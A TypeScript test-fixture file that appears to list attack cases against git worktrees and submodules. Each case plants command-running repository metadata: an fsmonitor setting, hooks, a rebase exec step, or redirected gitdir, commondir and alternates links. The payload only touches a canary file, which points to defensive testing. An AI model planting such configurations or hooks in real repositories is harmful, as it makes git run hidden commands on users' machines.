import type { GitAttack } from './attack.js';

const EVIL = `printf '[core]\\n\\tfsmonitor = "touch @C; false"\\n'`;
const WORKTREE = 'git worktree add -q wt -b wt';
const SUBMODULE =
  'git init -q ../lib0; git -C ../lib0 commit -q --allow-empty -m lib; git -c protocol.file.allow=always submodule add -q $(realpath ../lib0) lib; git commit -qm lib';

const at =
  (where: string, setup: string) =>
  ([name, script]: readonly [string, string]): GitAttack => ({ name, setup, scripts: [script], where });

const WORKTREES: readonly GitAttack[] = Object.entries({
  'worktrees: commondir leads elsewhere': `mkdir -p g; cp -r .git/objects .git/refs g/; ${EVIL} > g/config; echo $PWD/g > .git/worktrees/wt/commondir`,
  'worktrees: gitdir leads elsewhere': 'echo $(dirname @C)/.git > .git/worktrees/wt/gitdir',
  'worktrees: a configuration of its own': `git config extensions.worktreeConfig true; ${EVIL} > .git/worktrees/wt/config.worktree`,
  'worktrees: its file leads elsewhere': `mkdir -p g; cp -r .git/objects .git/refs .git/HEAD g/; ${EVIL} > g/config; echo "gitdir: ../g" > wt/.git`,
  'worktrees: its folder moved away and another in its place': `mkdir -p g; cp -r .git/objects .git/refs .git/HEAD g/; ${EVIL} > g/config; mv wt old; mkdir wt; echo "gitdir: ../g" > wt/.git`,
  'worktrees: HEAD of nonsense': 'echo nonsense > .git/worktrees/wt/HEAD',
  'worktrees: an index with a hook of git':
    'hook h; B=$(git hash-object -w h); index "" 100755:$B:.git/hooks/post-checkout; cp .git/index .git/worktrees/wt/index; git read-tree HEAD',
  'worktrees: a command in its rebase': `cd wt; git commit -q --allow-empty -m w; GIT_SEQUENCE_EDITOR="sed -i '1i break\\nexec touch @C'" git rebase -i HEAD~1`,
  'worktrees: its folder of git a link': `mkdir -p g; cp -r .git/worktrees/wt/. g/; mkdir -p h; cp -r .git/objects .git/refs h/; ${EVIL} > h/config; echo $PWD/h > g/commondir; mv .git/worktrees/wt .git/worktrees/old; ln -s $PWD/g .git/worktrees/wt`,
  'worktrees: one of its own making': `mkdir -p .git/worktrees/new new h; cp -r .git/objects .git/refs h/; ${EVIL} > h/config; cp .git/HEAD .git/worktrees/new/HEAD; echo $PWD/h > .git/worktrees/new/commondir; echo $PWD/new/.git > .git/worktrees/new/gitdir; echo "gitdir: $PWD/.git/worktrees/new" > new/.git; rm -rf wt; cp -r new wt`,
}).map(at('wt', WORKTREE));

const SUBMODULES: readonly GitAttack[] = Object.entries({
  'submodules: a hook': 'hook .git/modules/lib/hooks/post-checkout; hook .git/modules/lib/hooks/pre-commit',
  'submodules: a setting': `${EVIL} >> .git/modules/lib/config; git -C lib config core.fsmonitor "touch @C; false"`,
  'submodules: its worktree leads elsewhere': 'git -C lib config core.worktree $(dirname @C)',
  'submodules: its file leads elsewhere': `mkdir -p g; cp -r .git/objects .git/refs .git/HEAD g/; ${EVIL} > g/config; rm -f lib/.git; echo "gitdir: ../g" > lib/.git`,
  'submodules: a folder in the place of its file': `rm -rf lib; git init -q lib; (cd lib; git commit -q --allow-empty -m x; git config core.fsmonitor "touch @C; false")`,
  'submodules: its folder of git a link': `cp -r .git/modules/lib g; ${EVIL} >> g/config; mv .git/modules/lib .git/modules/old; ln -s $PWD/g .git/modules/lib`,
  'submodules: commondir': `mkdir -p g; cp -r .git/modules/lib/objects .git/modules/lib/refs g/; ${EVIL} > g/config; echo $PWD/g > .git/modules/lib/commondir`,
  'submodules: HEAD taken away': 'rm -f .git/modules/lib/HEAD',
  'submodules: objects from elsewhere':
    'mkdir -p .git/modules/lib/objects/info; echo $PWD/.git/objects > .git/modules/lib/objects/info/alternates; rm -rf .git/modules/lib/objects/??',
  'submodules: another address':
    'git init -q --bare b.git; hook b.git/hooks/pre-receive; git config submodule.lib.url ./b.git; git -C lib config remote.origin.url $PWD/b.git',
}).map(at('lib', SUBMODULE));

export const PLACE_ATTACKS: readonly GitAttack[] = [...WORKTREES, ...SUBMODULES];
